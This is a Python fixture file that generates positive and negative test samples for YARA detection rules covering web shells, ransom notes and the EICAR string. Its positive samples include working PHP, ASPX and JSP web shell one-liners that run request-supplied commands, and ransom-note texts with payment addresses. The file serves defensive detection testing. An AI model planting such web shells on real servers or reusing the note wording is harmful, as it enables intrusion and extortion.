"""Positive and negative files for every project YARA rule, assembled at test time.

Suspicious tokens are joined from fragments so that no file in the repository looks like a web
shell or the EICAR file to an anti-malware scanner; nothing here is a real malware sample.
"""

from __future__ import annotations

from dataclasses import dataclass

EV = "ev" + "al"
AS = "ass" + "ert"
SYS = "sys" + "tem"
SHX = "shell" + "_exec"
B64 = "base64" + "_decode"
GZ = "gz" + "inflate"
POST = "$_" + "POST"
GET = "$_" + "GET"
REQ = "$_" + "REQUEST"
RT = "Runtime.getRuntime()" + ".exec("
PS = "Process" + ".Start("
BTC_BECH32 = "bc1q" + "w508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t4"
BTC_LEGACY = "1Boat" + "SLRHtKNngkdXEeobR76b53LETtpyT"
ONION = "x" * 10 + "abcdefghijklmnopqrstuvwxyz234567" + "y" * 14 + ".onion"


def eicar() -> bytes:
    """The 68-byte EICAR test string, built from its two halves."""
    return ("X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR" + "-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*").encode()


@dataclass(frozen=True)
class Sample:
    name: str  # the file name it is written under (some rules read the file name)
    data: bytes


def _t(name: str, text: str, encoding: str = "utf-8") -> Sample:
    return Sample(name, text.encode(encoding))


POSITIVE: dict[str, list[Sample]] = {
    "SOC_Webshell_PHP_Eval_Request": [
        _t("x.php", f"<?php @{EV}({POST}['z0']); ?>"),
        _t("img.php", f"<?php\nerror_reporting(0);\n{AS}({B64}({REQ}['k']));\n"),
        _t("v.php", f"<?php {POST}['f']({POST}['a']); ?>"),
    ],
    "SOC_Webshell_PHP_Exec_Request": [
        _t("c.php", f"<?php if(isset({GET}['c'])) {{ echo {SYS}({GET}['c']); }} ?>"),
        _t("d.php", f'<?php $o = `{GET}[cmd]`; echo "<pre>$o</pre>"; ?>'),
        _t("e.php", f"<?php print {SHX}({B64}({POST}['q'])); ?>"),
    ],
    "SOC_Webshell_PHP_Obfuscated_Loader": [
        _t("cache.php", f"<?php {EV}({GZ}({B64}('7b0HYBxJliW2t6SvTNmSyIa4t'))); ?>"),
        _t("old.php", "<?php preg_replace('/.*/e', $code, ''); ?>"),
    ],
    "SOC_Webshell_PHP_Known_Kit": [
        _t("wso.php", "<?php\n$default_action = 'File" + "sMan';\n$color = '#df5';\n?>"),
        _t("k.php", "<?php /* b37" + "4k shell */ $x = 1; ?>"),
    ],
    "SOC_Webshell_ASPX_Process_Request": [
        _t(
            "up.aspx",
            '<%@ Page Language="C#" %>\n<script runat="server">\n'
            "void Page_Load(object s, EventArgs e) {\n"
            "  var p = new System.Diagnostics.ProcessStartInfo();\n"
            '  p.FileName = "cmd.exe"; p.Arguments = "/c " + Request.Form["c"];\n'
            f"  System.Diagnostics.{PS}p);\n}}\n</script>\n",
        ),
    ],
    "SOC_Webshell_ASPX_Eval_Request": [
        _t("a.aspx", f'<%@ Page Language="Jscript"%><%{EV}(Request.Item["z"],"unsafe");%>'),
    ],
    "SOC_Webshell_ASPX_Assembly_Loader": [
        _t(
            "l.aspx",
            '<%@ Page Language="C#" %><%\nbyte[] b = Request.BinaryRead(Request.ContentLength);\n'
            "System.Reflection.Assembly" + '.Load(b).CreateInstance("U");\n%>',
        ),
    ],
    "SOC_Webshell_JSP_Exec_Request": [
        _t(
            "cmd.jsp",
            '<%@ page import="java.io.*" %>\n<%\nString c = request.getParameter("cmd");\n'
            f"Process p = {RT}c);\n%>",
        ),
        _t(
            "pb.jsp",
            '<% String[] a = {"sh", "-c", request.getParameter("x")};\n'
            "new Process" + "Builder(a).start(); %>",
        ),
    ],
    "SOC_Webshell_JSP_Class_Loader": [
        _t(
            "b.jsp",
            '<%@page import="java.util.*,javax.crypto.*"%>\n<%!class U extends ClassLoader{'
            "U(ClassLoader c){super(c);}public Class g(byte []b){return super.define"
            'Class(b,0,b.length);}}%>\n<%Cipher c=Cipher.getInstance("AES");'
            "byte[] d = java.util.Base64.getDecoder().decode(request.getReader().readLine());%>",
        ),
    ],
    "SOC_Ransom_Note_English": [
        _t(
            "README.txt",
            "!!! ATTENTION !!!\nAll your files have been encrypted with strong encryption.\n"
            "To decrypt your files you need the private decryption key.\n"
            f"Send 0.05 BTC to this bitcoin address: {BTC_LEGACY}\n"
            f"Then write to us through Tor Browser: http://{ONION}/\n",
        ),
        _t(
            "note.txt",
            "Your network has been locked. Your important files were encrypted by us.\n"
            "We can restore your files. Contact us with your Tox ID: 7F1C...\n",
            "utf-16-le",
        ),
    ],
    "SOC_Ransom_Note_Vietnamese": [
        _t(
            "DOC_KY.txt",
            "CẢNH BÁO! Tất cả tệp tin của bạn đã bị mã hóa.\n"
            "Để giải mã dữ liệu, hãy chuyển 0,1 BTC vào ví:\n"
            f"{BTC_BECH32}\nSau 72 giờ khóa giải mã sẽ bị xóa.\n",
        ),
        _t(
            "doc.txt",
            "Toàn bộ dữ liệu đã bị mã hoá. Muốn khôi phục, liên hệ telegram: @datrecover2026\n",
        ),
        _t(
            "DOC_NGAY.txt",
            "TAT CA DU LIEU CUA BAN DA BI MA HOA!\nMuon giai ma, lien he Tox ID: 3A9F...\n",
        ),
        _t(
            "DOCNGAY.txt",
            f"Dữ liệu của bạn đã bị mã hóa. Liên hệ để giải mã qua trang http://{ONION}\n",
            "utf-16-le",
        ),
    ],
    "SOC_Ransom_Note_File_Name": [
        _t("HOW_TO_DECRYPT.txt", "Read carefully. We will decrypt one file for free.\n"),
        _t("huong_dan_giai_ma.txt", "Làm theo hướng dẫn để giải mã tệp.\n"),
        _t("!!!RESTORE_FILES!!!.txt", "decrypt instructions inside\n"),
    ],
    "SOC_Test_EICAR": [Sample("eicar.com", eicar()), Sample("eicar.txt", eicar() + b"\r\n")],
}

# Which project rules each positive sample is expected to trip besides its own (exact sets).
ALSO_MATCHES: dict[tuple[str, str], set[str]] = {
    ("SOC_Webshell_PHP_Exec_Request", "e.php"): set(),
    ("SOC_Ransom_Note_English", "README.txt"): set(),
    ("SOC_Ransom_Note_File_Name", "HOW_TO_DECRYPT.txt"): set(),
}

NEGATIVE: dict[str, list[Sample]] = {
    "SOC_Webshell_PHP_Eval_Request": [
        _t(
            "form.php",
            "<?php\n$name = htmlspecialchars($_POST['name'] ?? '', ENT_QUOTES);\n"
            "$cfg = json_decode(base64_decode($row['settings']), true);\necho $name;\n",
        ),
    ],
    "SOC_Webshell_PHP_Exec_Request": [
        _t(
            "backup.php",
            "<?php\n// nightly backup, fixed command only\n"
            "exec('/usr/bin/pg_dump -Fc dichvucong > /backup/db.dump', $out, $rc);\n"
            "$id = (int) $_GET['id'];\n",
        ),
    ],
    "SOC_Webshell_PHP_Obfuscated_Loader": [
        _t("img.php", "<?php $png = base64_decode($b64); $z = gzinflate($blob); echo $png; ?>"),
    ],
    "SOC_Webshell_PHP_Known_Kit": [
        _t(
            "report.xml",
            '<?xml version="1.0"?><report>Web shell families seen: c99shell, r57shell, '
            "b374k, WSO (FilesMan).</report>",
        ),
    ],
    "SOC_Webshell_ASPX_Process_Request": [
        _t(
            "admin.aspx",
            '<%@ Page Language="C#" %><script runat="server">\n'
            f'void Backup() {{ System.Diagnostics.{PS}"C:\\\\tools\\\\backup.exe"); }}\n'
            'string id = Request.QueryString["id"];\n</script>',
        ),
    ],
    "SOC_Webshell_ASPX_Eval_Request": [
        _t("calc.aspx", '<%@ Page Language="C#" %><% var total = Evaluate(Request.Form["a"]); %>'),
    ],
    "SOC_Webshell_ASPX_Assembly_Loader": [
        _t(
            "plugin.aspx",
            '<%@ Page Language="C#" %><% var a = System.Reflection.Assembly'
            '.Load("Portal.Plugins"); %>',
        ),
    ],
    "SOC_Webshell_JSP_Exec_Request": [
        _t("search.jsp", '<% String q = request.getParameter("q"); out.print(esc(q)); %>'),
        _t("Job.java", f'class Job {{ void run() {{ {RT}"/opt/app/rotate.sh"); }} }}'),
    ],
    "SOC_Webshell_JSP_Class_Loader": [
        _t(
            "img.jsp",
            '<% byte[] d = java.util.Base64.getDecoder().decode(request.getParameter("img"));'
            " response.getOutputStream().write(d); %>",
        ),
    ],
    "SOC_Ransom_Note_English": [
        _t(
            "bulletin.txt",
            "Security bulletin: if a screen says your files have been encrypted, do not try to "
            "decrypt them yourself and do not pay. Disconnect and call the SOC on 0236 3xxx.\n",
        ),
    ],
    "SOC_Ransom_Note_Vietnamese": [
        _t(
            "canh_bao.txt",
            "Cảnh báo an toàn thông tin: nếu máy tính hiển thị thông báo 'tệp của bạn đã bị mã "
            "hóa', không tự giải mã, không trả tiền chuộc; báo ngay cho Trung tâm giám sát.\n",
        ),
        _t(
            "chinh_sach.txt",
            "Dữ liệu cá nhân được mã hóa khi truyền và khi lưu trữ theo quy định.\n",
        ),
    ],
    "SOC_Ransom_Note_File_Name": [
        _t("README.txt", "How to decrypt the TLS traffic in Wireshark for debugging.\n"),
        _t("restore_plan.docx.txt", "Backup restore plan for the portal database.\n"),
    ],
    "SOC_Test_EICAR": [
        Sample("quoted.txt", b"The test file is: " + eicar()),
        Sample("half.txt", eicar()[:40]),
    ],
}
